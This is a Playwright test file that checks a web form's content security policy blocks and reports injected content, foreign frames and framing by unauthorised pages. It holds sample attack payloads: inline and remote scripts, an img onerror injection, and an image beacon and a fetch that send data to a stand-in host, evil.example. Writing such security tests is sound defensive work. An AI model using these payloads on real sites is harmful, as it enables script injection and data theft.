// The content security policy in a real browser: it blocks injected content and foreign frames, and the server receives
// the reports. Every other browser test fails on a violation (`setup/test.ts`).
import { openPageAt } from './driver/storedSession.ts'
import { withUniqueEmail } from './personas/persona.ts'
import { anna } from './personas/poland.ts'
import { expect, test } from './setup/test.ts'

/** Attempts of injected code. An attempt that succeeds sets the title of the document. */
const injections: Readonly<Record<string, () => void>> = {
  'an inline script': () => {
    const script = document.createElement('script')
    script.text = 'document.title = "taken"'
    document.head.append(script)
  },
  'a script from elsewhere': () => {
    const script = document.createElement('script')
    script.src = 'https://evil.example/taken.js'
    document.head.append(script)
  },
  'markup from a string': () => {
    const container = document.createElement('div')
    Reflect.set(container, 'innerHTML', '<img src=x onerror="document.title = `taken`">')
    document.body.append(container)
  },
  'an inline event handler': () => {
    const button = document.createElement('button')
    button.setAttribute('onclick', 'document.title = "taken"')
    document.body.append(button)
    button.click()
  },
  'a base element': () => {
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.head.prepend(base)
    if (document.baseURI.includes('evil')) document.title = 'taken'
  },
  'an inline style': () => {
    const style = document.createElement('style')
    style.textContent = 'body { display: none }'
    document.head.append(style)
    if (getComputedStyle(document.body).display === 'none') document.title = 'taken'
  },
  'a picture that sends data': () => {
    new Image().src = `https://evil.example/?told=${document.title}`
  },
  'a call elsewhere': () =>
    void fetch('https://evil.example/', { method: 'POST', body: 'told' }).catch(() => undefined),
  'a foreign frame': () => {
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(frame)
  },
}

for (const [name, inject] of Object.entries(injections)) {
  test(`the policy blocks and reports ${name}`, async ({ page, polandServer, watched }) => {
    await page.goto(polandServer.url)
    await page.locator('dialog:modal').waitFor()
    expect(watched.violations).toEqual([])
    const arrived: string[] = []
    await page.route('**://evil.example/**', (route) => {
      arrived.push(route.request().url())
      return route.abort()
    })
    // Throws where Trusted Types block the call.
    await page.evaluate(inject).catch(() => undefined)
    await expect.poll(() => watched.violations.length).toBeGreaterThan(0)
    await expect(page).not.toHaveTitle('taken')
    expect(arrived).toEqual([])
    watched.violations.length = 0
    watched.errors.length = 0
  })
}

test('violations and errors in another browser context are recorded too', async ({
  browser,
  polandServer,
  watched,
}) => {
  const other = await browser.newContext()
  const page = await other.newPage()
  await page.goto(polandServer.url)
  await page.locator('dialog:modal').waitFor()
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/x.png'
    setTimeout(() => {
      throw new Error('planted')
    })
  })
  await expect.poll(() => watched.violations.join()).toContain('img-src')
  await expect.poll(() => watched.errors.join()).toContain('planted')
  await other.close()
  watched.violations.length = 0
  watched.errors.length = 0
})

test('the browser sends violations to the server', async ({ page, polandServer, watched }) => {
  await page.goto(polandServer.url)
  const reported = await page.evaluate(async () => {
    const seen = new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.originalPolicy), { once: true })
    })
    new Image().src = 'https://evil.example/x.png'
    return seen
  })
  expect(reported).toContain('report-uri /policy-reports')
  const reply = await page.request.post(`${polandServer.origin}/policy-reports`, {
    headers: { 'content-type': 'application/csp-report' },
    data: { 'csp-report': { 'effective-directive': 'img-src', 'blocked-uri': 'https://evil.example/x.png' } },
  })
  expect(reply.status()).toBe(204)
  watched.violations.length = 0
})

test('the form, its documents and the server’s own pages violate no policy', async ({ page, polandServer }) => {
  await openPageAt(page, polandServer, withUniqueEmail(anna), 'employer-name')
  await page.goto(`${polandServer.url}terms`)
  await page.goto(`${polandServer.origin}/docs`)
  await page.goto(`${polandServer.origin}/sandbox`)
  await expect(page.locator('h1')).toHaveCSS('font-size', '28px')
})

test('a foreign page cannot frame the form, even when another host may', async ({
  page,
  polandServer,
  getEmbedding,
  watched,
}) => {
  const { server, host, foreign } = await getEmbedding('tukan-pl')
  await page.goto(`${foreign}/`)
  await expect.poll(() => watched.violations.join()).toContain('frame-ancestors')
  expect(page.frames().at(1)?.url()).not.toContain(server.url)
  await expect(page.frameLocator('iframe').locator('form')).toHaveCount(0)
  watched.violations.length = 0

  // The host may embed the form of one server, not of the other.
  await page.goto(`${host}/`)
  await page.frameLocator('iframe').locator('form[data-page]').waitFor()
  expect(watched.violations).toEqual([])
  await page.evaluate(
    (address) => {
      const frame = document.querySelector('iframe')
      if (frame !== null) frame.src = address
    },
    server.url.replace(server.origin, polandServer.origin),
  )
  await expect.poll(() => watched.violations.length).toBeGreaterThan(0)
  await expect(page.frameLocator('iframe').locator('form')).toHaveCount(0)
  watched.violations.length = 0
})
